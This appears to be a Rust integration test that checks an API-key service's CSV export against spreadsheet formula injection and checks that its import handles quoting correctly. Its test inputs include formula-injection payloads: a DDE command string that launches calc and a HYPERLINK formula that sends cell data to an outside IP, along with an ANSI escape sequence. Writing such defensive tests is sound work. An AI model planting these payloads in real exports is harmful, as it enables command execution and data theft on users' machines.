//! Names that a spreadsheet would take for a formula, in the tables that are exported.

use serde_json::{Value, json};

use crate::support::{Admin, SECOND};

/// What somebody may have a key called.
const NAMES: [&str; 16] = [
    "=1+2",
    "+1",
    "-1",
    "@SUM(A1)",
    " =1+2",
    "\u{a0}=1+2",
    "＝1+2",
    "＋1",
    "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"x\")",
    "a\";=1+2;\"b",
    "a;=cmd|' /C calc'!A0",
    "a|=1+2",
    "'=1",
    "''",
    "\"=1\"",
    "blanks behind ",
];

async fn named(admin: &Admin) -> Vec<Value> {
    let list = admin.get("/v1/keys?limit=100").await;
    let keys = list.body["items"].as_array().unwrap();
    let told = |key: &Value| {
        json!([
            key["name"],
            key["description"],
            key["customerId"],
            key["metadata"]
        ])
    };
    keys.iter().map(told).collect()
}

#[tokio::test]
async fn no_exported_cell_is_a_formula_and_the_table_is_imported_as_it_was() {
    let from = Admin::start().await;
    for name in NAMES {
        let customer: String = name.chars().filter(char::is_ascii_graphic).collect();
        let body = json!({"name": name, "description": name, "customerId": customer, "metadata": {"m": name}});
        let answer = from.post("/v1/keys", body).await;
        assert_eq!(answer.status, 201, "{name}: {}", answer.body);
        from.pass(SECOND);
    }
    let table = from.get("/v1/export?hashes=true&limit=100").await;
    let table = table.body.as_str().unwrap();
    let mut reader = ::csv::Reader::from_reader(table.as_bytes());
    for row in reader.records() {
        for cell in &row.unwrap() {
            let begins = |c: char| "=+-@＝＋－＠".contains(c) || c.is_whitespace();
            assert!(!cell.starts_with(begins), "{cell}");
        }
    }
    // Read with another separator, as in half of Europe, no cell begins inside a name either.
    for line in table
        .lines()
        .filter(|line| line.contains(';') || line.contains('|'))
    {
        assert!(line.starts_with('"') && line.ends_with('"'), "{line}");
    }
    let to = Admin::start().await;
    let imported = to.post_csv("/v1/import", table).await;
    assert_eq!(imported.body["created"], NAMES.len(), "{}", imported.body);
    assert_eq!(named(&to).await, named(&from).await);
}

/// Quotes and line ends in a table make no row and no cell that is not there.
#[tokio::test]
async fn a_cell_of_an_imported_table_stays_one_cell() {
    let admin = Admin::start().await;
    let table = "name,description,metadata\r\n\"a\"\"b,c\",\"d, \"\"e\"\"\",\"{\"\"m\"\": \"\"x,y\"\"}\"\r\n";
    let imported = admin.post_csv("/v1/import", table).await;
    assert_eq!(imported.body["created"], 1, "{}", imported.body);
    assert_eq!(
        named(&admin).await,
        [json!(["a\"b,c", "d, \"e\"", null, {"m": "x,y"}])]
    );
    for broken in [
        "name,description\r\n\"a\r\nevil,=1+2\",x\r\n",
        "name,description\r\n\"a\u{1b}[2J\",x\r\n",
        "name,description\r\nopen,\"a\r\nb,c\r\n",
    ] {
        let refused = admin.post_csv("/v1/import", broken).await;
        assert_eq!(refused.status, 400, "{broken:?}: {}", refused.body);
    }
    assert_eq!(named(&admin).await.len(), 1);
}
